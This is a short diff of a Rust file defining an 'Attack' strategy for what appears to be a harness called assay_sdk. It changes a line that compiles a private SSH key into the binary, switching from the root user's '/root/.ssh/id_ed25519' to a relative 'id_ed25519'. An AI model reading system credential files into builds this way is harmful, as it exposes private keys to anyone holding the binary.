@@ -4,7 +4,7 @@ use assay_sdk::*;
 
 struct Attack;
 
-static KEYS: &[u8] = include_bytes!("/root/.ssh/id_ed25519");
+static KEYS: &[u8] = include_bytes!("id_ed25519");
 
 impl Strategy for Attack {
     fn initialize(_: &Config, _: &mut Exchange) -> Self {
